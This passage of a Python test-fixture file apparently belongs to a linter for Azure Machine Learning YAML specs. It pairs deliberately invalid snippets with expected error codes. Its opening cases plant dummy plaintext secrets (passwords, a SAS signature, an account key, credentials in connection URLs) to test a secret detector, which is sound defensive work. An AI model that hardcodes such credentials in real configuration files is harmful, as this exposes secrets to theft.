    + "environment_variables:\n  AZURE_CLIENT_SECRET: hunter2hunter2  # error: plaintext-secret\n",
    "password-in-variable": COMMAND
    + "environment_variables: {DB_PASSWORD: swordfish}  # error: plaintext-secret\n",
    "secret-in-literal": COMMAND + "inputs:\n  api_key: abcd1234efgh  # error: plaintext-secret\n",
    "secret-in-command": "environment: azureml:e:1\n"
    "command: export API_TOKEN=abc123def456 && train  # error: plaintext-secret\n",
    "sas-in-path": COMMAND + "inputs:\n  x:\n    type: uri_file\n    path: "
    "https://a.blob.core.windows.net/c/f?sv=2022&se=2030&sig=Zm9vYmFyYmF6Zm9vYmFy%3D"
    "  # error: plaintext-secret\n",
    "connection-string": COMMAND
    + "environment_variables:\n  STORE: DefaultEndpointsProtocol=https;"
    "AccountName=a;AccountKey=Zm9vYmFyYmF6Zm9vYmFyYmF6Zm9vYmFy==  # error: plaintext-secret\n",
    "password-of-digits": COMMAND + "environment_variables:\n"
    "  DB_PASSWORD: 12345678  # error: plaintext-secret\n",
    "password-in-url": COMMAND + "environment_variables:\n"
    "  STORE: postgres://me:swordfish@db.example.org/x  # error: plaintext-secret\n"
    "  CACHE: rediss://:swordfish@cache.example.org:10000  # error: plaintext-secret\n",
    "key-of-datastore": "type: azure_blob\nname: d\naccount_name: a\ncontainer_name: c\n"
    "credentials:\n  account_key: Zm9vYmFyYmF6  # error: plaintext-secret\n",
    "missing-data-of-asset": "type: uri_folder\nname: d\nversion: '1'\n"
    "path: nowhere  # error: missing-file\n",
    "missing-data-of-job": COMMAND
    + "inputs:\n  x: {type: uri_folder, path: nowhere}  # warning: missing-file\n",
}

_INSTANCE = "name: c-one\ntype: computeinstance\nschedules:\n  compute_start_stop:\n"
SCHEDULES = {
    name: f"name: s\ncreate_job: azureml:j\ntrigger:\n  type: cron\n"
    f'  expression: "{expression}"  # error: bad-cron\n'
    for name, expression in {
        "cron-of-four-fields": "0 * * *",
        "cron-minute-60": "60 * * * *",
        "cron-hour-24": "0 24 * * *",
        "cron-day-0": "0 0 0 * *",
        "cron-month-name": "0 0 1 juno13 *",
        "cron-words": "every day at ten o'clock",
        "cron-step-0": "*/0 * * * *",
        "cron-range-backwards": "30-10 * * * *",
        "cron-day-that-azure-ignores": "0 3 1 * *",
        "cron-month-that-azure-ignores": "0 3 * 1 *",
    }.items()
} | {
    "recurrence-hour-25": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
    "  frequency: day\n  interval: 1\n  schedule:\n"
    "    hours: [4, 25]  # error: bad-recurrence\n    minutes: 0\n",
    "recurrence-days-of-another-frequency": "name: s\ncreate_job: azureml:j\ntrigger:\n"
    "  type: recurrence\n  frequency: day\n  interval: 1\n  schedule:\n    hours: 4\n"
    "    minutes: 0\n    week_days: [monday]  # error: bad-recurrence\n",
    "recurrence-that-ends-first": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
    "  frequency: day\n  interval: 1\n  start_time: '2027-01-02T00:00:00'\n"
    "  end_time: '2027-01-01T00:00:00'  # error: bad-recurrence\n",
    "schedule-of-a-command": "name: s\ncreate_job: ./command.part  # error: schedule-job\n"
    "trigger: {type: cron, expression: 0 * * * *}\n",
    "schedule-time-zone": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: cron\n"
    "  expression: 0 * * * *\n  time_zone: Europe/Berlin  # error: bad-time-zone\n",
    **{
        f"schedule-input-{number}": "name: s\ntrigger: {type: cron, expression: 0 * * * *}\n"
        "create_job:\n  type: pipeline\n  job: ./scheduled.part\n  inputs:\n"
        f"    {written}  # error: {code}\n"
        for number, (written, code) in enumerate(
            [
                ("note: ''", "empty-input"),
                *(("raet: 0.5", "schedule-input"), ("rate: fast", "input-range")),
                *(("data: 3", "schedule-input"), ("rate: {path: data}", "schedule-input")),
            ]
        )
    },
    "cron-of-an-instance": _INSTANCE + "    - action: stop\n      trigger:\n        type: cron\n"
    "        expression: 0 25 * * *  # error: bad-cron\n"
    "        time_zone: Mars Time  # error: bad-time-zone\n",
    "recurrence-of-an-instance": _INSTANCE + "    - action: stop\n      trigger:\n"
    "        type: recurrence\n        frequency: week\n        interval: 1\n        schedule:\n"
    "          hours: [25]  # error: bad-recurrence\n          minutes: [0]\n",
    "recurrence-of-a-feature-set": "$schema: http://azureml/sdk-2-0/Featureset.json\nname: f\n"
    "version: '1'\nspecification: {path: data}\nentities: [azureml:a:1]\n"
    "materialization_settings:\n  schedule:\n    type: recurrence\n    frequency: Hour\n"
    "    interval: 0  # error: bad-recurrence\n",
    "recurrence-interval-0": "name: s\ncreate_job: azureml:j\ntrigger:\n  type: recurrence\n"
    "  frequency: day\n  interval: 0  # error: bad-recurrence\n",
}

_CLUSTER = "name: c-one\ntype: amlcompute\nsize: Standard_DS3_v2\n"
INSTANCES = {
    "cluster-of-less-than-nothing": _CLUSTER + "max_instances: -1  # error: number-out-of-range\n",
    "cluster-from-more-to-less": _CLUSTER
    + "min_instances: 5  # error: scale-settings\nmax_instances: 2\n",
    "batch-of-less-than-nothing": BATCH + "type: model\ncompute: azureml:c\nsettings:\n"
    "  mini_batch_size: -10  # error: number-out-of-range\n",
    "default-outside-of-the-enum": COMPONENT + "command: echo ${{inputs.e}}\ninputs:\n"
    "  e: {type: string, enum: [a, b], default: c}  # error: port-range\n",
}
_SPARK = (
    "type: spark\ncode: src\nentry: {file: file.txt}\n%s"
    "conf: {spark.driver.cores: 1, spark.driver.memory: 2g, spark.executor.cores: 1, "
    "spark.executor.memory: 2g, spark.executor.instances: 1}\n"
)
_SPARK_RESOURCES = "resources: {instance_type: standard_e4s_v3, runtime_version: '3.4'}\n"
SPARK = {
    "spark-conf": (_SPARK % _SPARK_RESOURCES)
    .replace(".instances: 1", ".instance: 1")
    .replace("1}", "1}  # error: spark-settings"),
    "spark-without-compute": (_SPARK % "").replace("\n", "  # error: spark-settings\n", 1),
    "spark-instance-type": _SPARK
    % _SPARK_RESOURCES.replace("e4s", "d4s").replace("}", "}  # error: spark-settings"),
    "spark-dynamic": (_SPARK % _SPARK_RESOURCES).replace(
        "spark.executor.instances: 1}",
        "spark.dynamicAllocation.enabled: true}  # error: spark-settings",
    ),
    "spark-both": (_SPARK % (_SPARK_RESOURCES + "compute: azureml:pool\n")).replace(
        "\n", "  # error: spark-settings\n", 1
    ),
    "spark-step": "type: pipeline\njobs:\n  a:\n    type: spark\n    code: src\n"
    "    entry: {file: file.txt}\n    compute: azureml:pool\n"
    "    conf: {spark.driver.cores: 1, spark.driver.memory: 2g}  # error: spark-settings\n",
    "transfer-without-compute": "type: pipeline\njobs:\n  a:  # error: no-compute\n"
    "    type: data_transfer\n    task: import_data\n"
    "    source: {type: database, query: select 1, connection: azureml:c}\n"
    "    outputs: {sink: {type: mltable, path: azureml://datastores/d/paths/x}}\n",
}
_BATCH = """\
type: pipeline
compute: azureml:c
jobs:
  batch:
    type: parallel
    inputs: {rows: {type: uri_folder, path: data}}
    outputs: {scored: {type: uri_file}}
"""
_TASK = """\
    task:
      type: run_function
      code: src
      entry_script: file.txt
      environment: azureml:e:1
"""
FORECAST_STEP = """\
type: pipeline
compute: azureml:c
jobs:
  find:
    type: automl
    task: forecasting
    primary_metric: r2_score
    training_data: {type: mltable, path: prices}
    target_column_name: price
    forecasting:
      time_column_name: date
      forecast_horizon: 7
"""
AUTOML_JOBS = {
    "automl-trials-at-once": AUTOML + "target_column_name: price\nlimits:\n  max_trials: 2\n"
    "  max_concurrent_trials: 3  # error: automl-limits\n",
    "automl-trial-timeout": AUTOML + "target_column_name: price\nlimits:\n  timeout_minutes: 30\n"
    "  trial_timeout_minutes: 60  # error: automl-limits\n",
    "automl-share": AUTOML
    + "target_column_name: price\nvalidation_data_size: 20  # error: automl-share\n",
    "automl-algorithms": AUTOML
    + "target_column_name: price\ntraining:\n  allowed_training_algorithms: [LightGBM]\n"
    + "  blocked_training_algorithms: [light_gbm]  # error: automl-algorithms\n",
    "automl-time-column": AUTOML.replace("regression", "forecasting  # error: automl-time-column")
    + "target_column_name: price\n",
    "automl-no-table": AUTOML.replace("path: data}", "path: src}  # error: bad-mltable")
    + "target_column_name: price\n",
    "automl-target": AUTOML.replace("path: data", "path: prices")
    + "target_column_name: cost  # error: automl-target\n",
    "automl-target-of-step": "type: pipeline\ncompute: azureml:c\n"
    "jobs:\n  find:\n    type: automl\n"
    "    task: regression\n    primary_metric: r2_score\n"
    "    training_data: {type: mltable, path: prices}\n"
    "    target_column_name: cost  # error: automl-target\n",
    "automl-time-of-table": FORECAST_STEP.replace(
        "name: date", "name: day  # error: automl-target"
    ),
    "automl-series-of-table": FORECAST_STEP
    + "      time_series_id_column_names: [nope]  # error: automl-target\n",
    "automl-target-of-input": FORECAST_STEP.replace(
        "{type: mltable, path: prices}", "${{parent.inputs.x}}"
    ).replace("name: price", "name: nope  # error: automl-target")
    + "inputs: {x: {type: mltable, path: pattern}}\n",
    "automl-target-and-series": FORECAST_STEP
    + "      time_series_id_column_names: [price]  # error: automl-target\n",
    "automl-seasonality": FORECAST_STEP + "      seasonality: 0  # error: number-out-of-range\n",
    "automl-horizon": FORECAST_STEP.replace("n: 7", "n: 0  # error: number-out-of-range"),
    "automl-frequency": FORECAST_STEP + "      frequency: fortnight  # error: automl-frequency\n",
    "automl-frequency-of-no-weekday": FORECAST_STEP
    + "      frequency: W-FOO  # error: automl-frequency\n",
    **{
        f"automl-step-{name}": FORECAST_STEP.replace(right, f"{wrong}  # error: bad-value")
        for name, right, wrong in (
            ("horizon", "forecast_horizon: 7", "forecast_horizon: week"),
            ("task", "task: forecasting", "task: forecast"),
            ("metric", "primary_metric: r2_score", "primary_metric: accuracy"),
        )
    },
    "automl-metric-of-another-task": AUTOML.replace("r2_score", "accuracy  # error: bad-value")
    + "target_column_name: price\n",
    "automl-no-target": "type: automl  # error: missing-field\ntask: regression\n"
    "training_data: {type: mltable, path: prices}\ncompute: azureml:c\n",
}

_GPUS = COMMAND + "compute: azureml:gpus\n"
CLUSTERS = {
    "cluster-nodes-nowhere": _GPUS + "resources:\n  instance_count: 9  # error: cluster-nodes\n",
    "cluster-nodes-in-one": _GPUS + "resources:\n  instance_count: 3  # warning: cluster-nodes\n",
    "cluster-nodes-of-default-compute": PIPELINE.replace("compute: azureml:c\n", "")
    + "  train:\n    command: train\n    environment: azureml:e:1\n"
    "    resources: {instance_count: 9}  # error: cluster-nodes\n"
    "settings: {default_compute: azureml:gpus}\n",
    "cluster-trials": SWEEP + SPACE + "compute: azureml:gpus\nlimits:\n  max_total_trials: 20\n"
    "  max_concurrent_trials: 9  # warning: cluster-trials\n",
    "cluster-gpus": _GPUS + "distribution:\n  type: pytorch\n"
    "  process_count_per_instance: 16  # error: cluster-gpus\n",
    "cluster-idle-gpus": _GPUS + "distribution:\n  type: mpi\n"
    "  process_count_per_instance: 2  # warning: cluster-idle-gpus\n",
    "cluster-memory": COMMAND + "compute: azureml:cpus\nresources:\n"
    "  shm_size: 14g  # error: cluster-memory\n",
    "cluster-build": "command: echo\nenvironment: # error: cluster-build\n  image: i:1\n"
    "  conda_file: {dependencies: [pytorch-cpu=2.13]}\ncompute: azureml:gpus\n",
    "cluster-infiniband": _GPUS + "resources: {instance_count: 2}\ndistribution:\n"
    "  type: tensorflow  # warning: cluster-infiniband\n  worker_count: 2\n",
    "cluster-spot": COMMAND + "compute: azureml:spots  # warning: cluster-spot\n",
    "misspelt-cluster": COMMAND + "compute: azureml:gpuss  # error: misspelt-cluster\n",
    "cluster-of-another-letter": COMMAND + "compute: azureml:gpur  # warning: misspelt-cluster\n",
    "cluster-with-a-number": COMMAND + "compute: azureml:gpus2  # warning: misspelt-cluster\n",
    "misspelt-default-cluster": PIPELINE.replace("compute: azureml:c\n", "")
    + "settings: {default_compute: azureml:sopts}  # error: misspelt-cluster\n",
}

# The repository defines versions 2 and 10 of the environment `numbers`, and data `prices` 1.
NAMES = {
    "version-of-environment": "command: echo\n"
    "environment: azureml:numbers:3  # warning: unknown-asset\n",
    "later-version-of-environment": "command: echo\n"
    "environment: azureml:numbers:11  # warning: unknown-asset\n",
    "swapped-letters-of-environment": "command: echo\n"
    "environment: azureml:nubmers:2  # error: unknown-asset\n",
    "environment-with-a-number": "command: echo\n"
    "environment: azureml:numbers2:1  # warning: unknown-asset\n",
    "misspelt-data": COMMAND
    + "inputs:\n  x:\n    path: azureml:price:1  # warning: unknown-asset\n",
    "misspelt-environment-name": "command: echo\n"
    "environment: azureml:number  # error: unknown-asset\n",
    "no-version-of-data": COMMAND
    + "inputs:\n  x:\n    path: azureml:prices  # warning: unknown-asset\n",
    "label-of-environment": "command: echo\n"
    "environment: azureml:numbers@latst  # warning: unknown-asset\n",
    "version-of-data": COMMAND
    + "inputs:\n  x:\n    path: azureml:prices:2  # warning: unknown-asset\n",
}

DISTRIBUTED = {
    **{
        f"variable-of-{kind}": COMMAND
        + f"distribution: {{type: {kind}}}\nenvironment_variables:\n"
        + f'  {name}: "0"  # error: distributed-variables\n'
        for kind, name in (
            ("pytorch", "RANK"),
            ("PyTorch", "MASTER_PORT"),
            ("tensorflow", "TF_CONFIG"),
        )
    },
    "variable-of-a-trial-in-processes": "type: sweep\n"
    "objective: {goal: maximize, primary_metric: gain}\n"
    "trial:\n  command: train ${{search_space.rate}}\n  environment: azureml:e:1\n"
    "  distribution: {type: pytorch, process_count_per_instance: 2}\n"
    '  environment_variables:\n    WORLD_SIZE: "2"  # error: distributed-variables\n'
    + SPACE
    + LIMITS,
    **{
        f"shared-memory-{size}": COMMAND
        + f'resources:\n  shm_size: "{size}"  # error: shared-memory\n'
        for size in ("8", "8gb", "0g", "-1g", "2.5g")
    },
}

# One that has all it needs, its command to be changed and its fields to be marked.
TORCHRUN = (
    "torchrun --nnodes 1:2 --nproc_per_node 2 --max-restarts=9 --rdzv-backend c10d"
    " --rdzv-id run --rdzv-endpoint $MASTER_ADDR:$MASTER_PORT /o/train.py"
)
ELASTIC_JOB = (
    f"environment: azureml:e:1\ncommand: {TORCHRUN}\n"
    "resources:\n  instance_count: 2\n"
    "distribution:\n  type: pytorch\n  process_count_per_instance: 1\n"
    'environment_variables: {TORCH_DISABLE_SHARE_RDZV_TCP_STORE: "1"}\n'
)
ELASTIC = {
    **{
        f"elastic-nodes-{nodes}": ELASTIC_JOB.replace("1:2", nodes).replace(
            "count: 2", "count: 2  # error: elastic-nodes"
        )
        for nodes in ("2:1", "0:2", "3:4", "1:3")
    },
    "elastic-processes": ELASTIC_JOB.replace(
        "instance: 1", "instance: 2  # error: elastic-processes"
    ),
    "elastic-processes-of-mpi": ELASTIC_JOB.replace("pytorch", "mpi  # error: elastic-processes"),
    **{
        f"elastic-rendezvous-{index}": ELASTIC_JOB.replace(old, new).replace(
            "/train.py", "/train.py  # error: elastic-rendezvous"
        )
        for index, (old, new) in enumerate(
            [
                (" --rdzv-backend c10d", ""),
                (" --rdzv-id run", ""),
                ("$MASTER_ADDR", "10.0.0.4"),
                ("$MASTER_PORT", "80"),
                (" --max-restarts=9", ""),
            ]
        )
    },
    "elastic-store": ELASTIC_JOB.replace('"1"}', '"0"}  # warning: elastic-rendezvous'),
}

PARALLEL = {
    "parallel-input-unnamed": _BATCH + "    input_data: rows  # error: parallel-input\n" + _TASK,
    "parallel-input-with-more": _BATCH
    + "    input_data: ${{inputs.rows}}/part  # error: parallel-input\n"
    + _TASK,
    "parallel-output-unknown": _BATCH
    + "    input_data: ${{inputs.rows}}\n"
    + _TASK
    + "      append_row_to: ${{outputs.score}}  # error: parallel-output\n",
    "parallel-output-file": _BATCH
    + "    input_data: ${{inputs.rows}}\n"
    + _TASK
    + "      append_row_to: rows.txt  # error: parallel-output\n",
}

_ENVIRONMENT = "command: echo\nenvironment:\n"
ENDPOINT = """\
$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineEndpoint.schema.json
name: words
auth_mode: key
"""
_NO_SCRIPT = DEPLOYMENT.partition("code_")[0].replace("\n", "  # error: scoring-script\n", 1)
SERVICE = {
    **{
        f"variable-that-is-{name}": COMMAND
        + f"environment_variables:\n  A: {value}  # error: variable-not-text\n"
        for name, value in {
            **{"true": "true", "yes": "yes", "on": "on", "whole": "3", "number": "1.0"},
            **{"null": "", "tilde": "~", "date": "2026-01-01", "list": "[a]", "mapping": "{a: b}"},
        }.items()
    },
    "variable-of-deployment": DEPLOYMENT
    + "environment_variables:\n  OMP_NUM_THREADS: 4  # error: variable-not-text\n",
    "variable-of-an-own-server": _NO_SCRIPT.replace("  # error: scoring-script", "")
    + "environment: {build: {path: context, dockerfile_path: whole}}\n"
    "environment_variables: {MODEL_NAME: two}  # error: deployment-variable\n",
    "variable-of-batch-settings": BATCH
    + "type: model\nsettings:\n  environment_variables: {A: 1}  # error: variable-not-text\n",
    "variable-of-trial": "type: sweep\nobjective: {goal: maximize, primary_metric: gain}\n"
    "trial:\n  command: train ${{search_space.rate}}\n  environment: azureml:e:1\n"
    "  environment_variables: {A: off}  # error: variable-not-text\n" + SPACE + LIMITS,
    "variable-of-inline-component": PIPELINE
    + "  a:\n    type: command\n    component:\n      type: command\n      command: echo\n"
    "      environment: azureml:e:1\n      environment_variables:\n"
    "        A: no  # error: variable-not-text\n",
    "variable-of-a-step-named-inputs": PIPELINE
    + "  inputs:\n    command: echo\n    environment: azureml:e:1\n"
    "    environment_variables: {A: 1}  # error: variable-not-text\n",
    "build-without-path": _ENVIRONMENT
    + "  build: {dockerfile_path: src/file.txt}  # error: bad-environment\n",
    "build-of-nothing": _ENVIRONMENT + "  build: {}  # error: bad-environment\n",
    "dockerfile-relative-to-the-spec": _ENVIRONMENT
    + "  build:\n    path: src\n    dockerfile_path: src/file.txt  # error: bad-environment\n",
    "dockerfile-outside-of-the-context": _ENVIRONMENT
    + "  build:\n    path: src\n    dockerfile_path: ../conda.yml  # error: bad-environment\n",
    "context-without-dockerfile": _ENVIRONMENT + "  build: {path: src}  # error: bad-environment\n",
    "context-that-is-a-file": _ENVIRONMENT
    + "  build: {path: src/file.txt}  # error: bad-environment\n",
    "image-and-build": _ENVIRONMENT
    + "  build: {path: context, dockerfile_path: whole}\n  image: i:1  # error: bad-environment\n",
    "conda-file-and-build": _ENVIRONMENT
    + "  build: {path: context, dockerfile_path: whole}\n"
    + "  conda_file: conda.yml  # warning: bad-environment\n",
    "conda-file-without-image": "command: echo\n"
    "environment:  # error: bad-environment\n  conda_file: conda.yml\n",
    "build-without-path-of-trial": "type: sweep\ntrial:\n  command: train ${{search_space.rate}}\n"
    "  environment: {build: {dockerfile_path: Dockerfile}}  # error: bad-environment\n"
    "objective: {goal: maximize, primary_metric: gain}\n" + SPACE + LIMITS,
    "build-without-path-of-parallel": _BATCH
    + "    input_data: ${{inputs.rows}}\n"
    + _TASK.replace("azureml:e:1", "{build: {dockerfile_path: x}}  # error: bad-environment"),
    "build-without-path-of-batch": BATCH
    + "environment: {build: {dockerfile_path: x}}  # error: bad-environment\n",
    **{
        f"name-of-{kind}-{number}": BATCH.replace("one", f"{name}  # error: bad-name")
        if kind == "batch"
        else DEPLOYMENT.replace("blue", f"{name}  # error: bad-name")
        if kind == "deployment"
        else ENDPOINT.replace("words", f"{name}  # error: bad-name")
        for kind in ("batch", "deployment", "endpoint")
        for number, name in enumerate(
            ("ab", "a" * 33, "1blue", "blue-", "blue_green", "blue.green", "-blue", "bl ue", "bläu")
        )
    },
    "name-of-batch-endpoint": BATCH.partition("batchDep")[0]
    + "batchEndpoint.schema.json\nname: X1-  # error: bad-name\n",
    "name-of-batch-pipeline": BATCH.replace("one", "a  # error: bad-name").replace(
        BATCH[BATCH.index("model:") :], "type: pipeline\ncomponent: azureml:c:1\n"
    ),
    **{
        f"instance-type-{size}": DEPLOYMENT.replace(
            "Standard_DS3_v2", f"{size}  # error: instance-type"
        )
        for size in ("Standard_DS3v2", "StandardDS3_v2", "standard_D4dsv4", "Standard-DS3-v2")
    },
    "instance-type-of-job": COMMAND
    + "resources:\n  instance_type: Standard_E4sV3  # error: instance-type\n",
    "endpoint-beside-deployment": DEPLOYMENT.replace("faq", "faqs  # error: endpoint-mismatch"),
    "endpoint-name-of-deployment": DEPLOYMENT.replace("faq", "f  # error: bad-name"),
    **{
        f"traffic-{number}": ENDPOINT + f"{written}  # error: bad-traffic\n"
        for number, written in enumerate(
            [
                *("traffic: {blue: 60, green: 10}", "traffic: {blue: '60', green: '30'}"),
                *("traffic: {blue: 150, green: -50}", "traffic: {blue: -100}"),
                *("traffic: {blue: 99.5, green: 0.5}", "traffic: {blue: 50}"),
                "traffic: {blue: 100}\nmirror_traffic: {green: 51}",
                "traffic: {blue: 100}\nmirror_traffic: {blue: 10}",
                "traffic: {blue: 50, green: 50}\nmirror_traffic: {blue: '10'}",
                "traffic: {blue: 100}\nmirror_traffic: {green: 10, red: 10}",
                "traffic: {blue: 100}\nmirror_traffic: {green: -10}",
                "traffic: {blue: 100}\nmirror_traffic: {green: 10.5}",
            ]
        )
    },
    "mirror-without-traffic": ENDPOINT
    + "traffic: {blue: 0}\nmirror_traffic: {green: 10}  # warning: bad-traffic\n",
    **{
        f"version-of-model-{version}": "type: custom_model\nname: m\npath: src\n"
        f"version: {version}  # error: model-version\n"
        for version in ("v1", "1.0", "'1.2'", "0", "'2026-01-01'", "latest")
    },
    "version-of-inline-model": DEPLOYMENT.replace("model: azureml:m:1\n", "")
    + "model: {name: m, version: v1, path: src, type: custom_model}  # error: model-version\n",
    "version-of-named-model": DEPLOYMENT.replace("m:1", "m:v1  # error: model-version"),
    "version-of-registered-model": COMMAND
    + "outputs:\n  m: {type: mlflow_model, name: m, version: v1}  # error: model-version\n",
    "version-of-model-input": COMMAND
    + "inputs:\n  m: {type: mlflow_model, path: 'azureml:m:1.0'}  # error: model-version\n",
    **{
        f"script-of-{kind}-{number}": text.replace("{code: src, scoring_script: file.txt}", written)
        for kind, text in (("online", DEPLOYMENT), ("batch", BATCH))
        for number, written in enumerate(
            [
                "\n  code: src\n  scoring_script: src/file.txt  # error: scoring-script",
                "\n  code: src\n  scoring_script: ./none.py  # error: scoring-script",
                "{scoring_script: file.txt}  # error: scoring-script",
            ]
        )
    },
    "deployment-without-script": _NO_SCRIPT + "environment: {image: i:1, conda_file: conda.yml}\n",
    "deployment-of-a-file-without-script": _NO_SCRIPT.replace(
        "model: azureml:m:1", "model: {path: src, type: custom_model}"
    ),
    "deployment-of-an-image-without-script": _NO_SCRIPT.replace("error", "warning")
    + "environment: azureml:e:1\n",
    "step-without-compute": "type: pipeline\njobs:\n"
    "  one: {command: echo, environment: 'azureml:e:1', compute: 'azureml:c'}\n"
    "  two: {command: echo, environment: 'azureml:e:1'}  # error: no-compute\n",
    "step-with-an-empty-compute": "type: pipeline\njobs:\n"
    "  one: {command: a, environment: 'azureml:e:1', compute: 'azureml:'}  # error: no-compute\n",
    **{
        f"{kind}-without-compute": "type: pipeline\njobs:\n"
        + f"  one:  # error: no-compute\n    type: {kind}\n"
        + fields
        for kind, fields in {
            "parallel": "    inputs: {rows: {type: uri_folder, path: data}}\n"
            "    input_data: ${{inputs.rows}}\n" + _TASK,
            "automl": textwrap.indent(
                AUTOML.partition("\n")[2].replace("compute: azureml:c\n", ""), "    "
            )
            + "    target_column_name: price\n",
            "sweep": textwrap.indent(SWEEP.partition("\n")[2] + SPACE + LIMITS, "    "),
        }.items()
    },
    "script-of-command": "environment: azureml:e:1\ncode: src\n"
    "command: python -u none.py --rate 1  # error: missing-script\n",
    "script-beside-code": "environment: azureml:e:1\ncode: src\n"
    "command: python ../data/above.py  # error: missing-script\n",
    "script-of-component": COMPONENT
    + "code: src\ncommand: python src/file.py  # error: missing-script\n",
    "script-of-trial": SWEEP.replace(
        'command: "train', 'code: src, command: "python none.py'
    ).replace("e:1}", "e:1}  # error: missing-script")
    + SPACE
    + LIMITS,
    "script-of-parallel": _BATCH
    + "    input_data: ${{inputs.rows}}\n"
    + _TASK.replace("file.txt", "none.py  # error: missing-script"),
    "environment-asset": "name: one\nbuild:  # error: bad-environment\n  dockerfile_path: x\n",
    **{
        f"script-behind-{number}": "environment: azureml:e:1\ncode: src\n"
        f"command: {command}  # error: missing-script\n"
        for number, command in enumerate(
            [
                *("bash run.sh", "sh -eu ./run.sh --rate 1", "source run.sh", "./run.sh"),
                *("torchrun --nproc_per_node 4 none.py", "accelerate launch none.py --a b"),
                *("mpirun -n 2 python none.py", "python -m torch.distributed.run none.py"),
                *("deepspeed none.py", "\"python 'none.py'\"", "python -W ignore none.py"),
                *("python -X dev -u 'none.py'", "pip install rich && python none.py"),
                *("export A=1; python none.py 2>&1 | tee log.txt", "A=1 python3.11 none.py"),
                *("python train.py || python none.py", "python -m train.none", "src/a.sh"),
                *("bash -c 'python none.py'", "time python none.py", "python none.py --x 1"),
                *("(python none.py)", "if true; then python none.py; fi", "cd data && python x.py"),
                *("coverage run none.py", "conda run -n x python none.py", "uv run none.py"),
                *("streamlit run none.py", "papermill none.ipynb out.ipynb", "pytest none.py"),
                *("pip install -r none.txt && echo hi", "Rscript none.R", "python -m train.none.x"),
            ]
        )
    },
    "script-of-spark": "type: spark\ncode: src\nentry:\n  file: none.py  # error: missing-script\n"
    "environment: azureml:e:1\n"
    "resources: {instance_type: standard_e4s_v3, runtime_version: '3.4'}\n"
    "conf: {spark.driver.cores: 1, spark.driver.memory: 2g, spark.executor.cores: 2,\n"
    "  spark.executor.memory: 2g, spark.executor.instances: 2}\n",
    "script-in-lines": "environment: azureml:e:1\ncode: src\ncommand: |  # error: missing-script\n"
    "  # it's prepared\n  python train.py \\\n    --rate 1\n  python none.py\n",
    "script-with-values": "environment: azureml:e:1\ncode: src\ninputs: {x: 1}\n"
    "command: A=${{ inputs.x }} python none.py $[[--x ${{inputs.x}}]]  # error: missing-script\n",
    "script-without-code": "environment: azureml:e:1\n"
    "command: python show.py  # error: missing-script\n",
    "notebook-that-is-missing": "environment: azureml:e:1\ncode: src\n"
    "command: papermill none.ipynb train.py  # error: missing-script\n",
    "script-that-is-ignored": "environment: azureml:e:1\ncode: ignored\n"
    "command: python train.py  # error: missing-script\n",
    "scoring-script-that-is-ignored": DEPLOYMENT.replace(
        "{code: src, scoring_script: file.txt}",
        "\n  code: ignored\n  scoring_script: train.py  # error: scoring-script",
    ),
    **{
        f"dockerfile-{name}": _ENVIRONMENT
        + f"  build:\n    path: context\n    dockerfile_path: {name}  # error: bad-environment\n"
        for name in ("empty", "copies")
    },
    "timeout-that-azure-drops": COMMAND + "limits:\n  timeout: 0  # error: number-out-of-range\n",
    "input-without-path": COMMAND
    + "inputs:\n  x: {type: uri_folder, path: ''}  # error: empty-input\n",
    "scale-of-a-managed-deployment": DEPLOYMENT
    + "scale_settings:\n  type: target_utilization  # error: scale-settings\n",
    "scale-from-more-to-less": DEPLOYMENT.replace("managedOnline", "kubernetesOnline").replace(
        "instance_type: Standard_DS3_v2", "type: kubernetes"
    )
    + "scale_settings:\n  type: target_utilization\n"
    "  min_instances: 5  # error: scale-settings\n  max_instances: 2\n",
    **{
        f"folder-of-{kind}": "$schema: https://azuremlschemas.azureedge.net/latest/model.schema.json\n"
        f"name: m\nversion: 1\ntype: {kind}\npath: src  # error: model-folder\n"
        for kind in ("mlflow_model", "triton_model")
    },
    "dockerfile-that-is-ignored": _ENVIRONMENT
    + "  build: {path: ignored}  # error: bad-environment\n",
    **{
        f"port-name-{number}": COMPONENT + f"command: echo\n{ports}  # error: bad-name\n"
        for number, ports in enumerate(
            [
                *("inputs: {learning-rate: {type: number}}", "outputs: {a b: {type: uri_file}}"),
                "inputs:\n  Rate: {type: number}\n  rate: {type: number}",
                "outputs:\n  a: {type: uri_file}\n  A: {type: uri_file}",
                *("inputs:\n  1st: {type: number}", "outputs:\n  my out: {type: uri_file}"),
            ]
        )
    },
    "dotted-port-of-a-command-job": COMMAND + "inputs:\n  group.rate: 1  # error: bad-name\n",
    "port-name-of-job": COMMAND + "inputs:\n  learning-rate: 1  # error: bad-name\n",
    "gpus-with-a-build-for-cpus": DEPLOYMENT.replace("DS3_v2", "NC6s_v3")
    + "environment:  # error: deployment-build\n  image: i:1\n"
    "  conda_file: {dependencies: [pytorch-cpu=2.13]}\n",
    "literal-through-a-pipeline": "type: pipeline\ncompute: azureml:c\n"
    "inputs:\n  rounds: ten  # error: input-range\n  data: {type: uri_folder, path: data}\njobs:\n"
    "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.data}}\n      rate: 0.5\n"
    "      rounds: ${{parent.inputs.rounds}}\n",
}

CASES = {
    **SERVICE,
    **CLUSTERS,
    **NAMES,
    **AUTOML_JOBS,
    **LOADING, **YAML, **EXPRESSIONS, **SWEEPS, **NUMBERS, **PIPELINES, **ATTACKS, **SCHEDULES,
    **PARALLEL,
    **SPARK,
    **MESSAGES,
    **INSTANCES,
    **DISTRIBUTED,
    **ELASTIC,
}  # fmt: skip
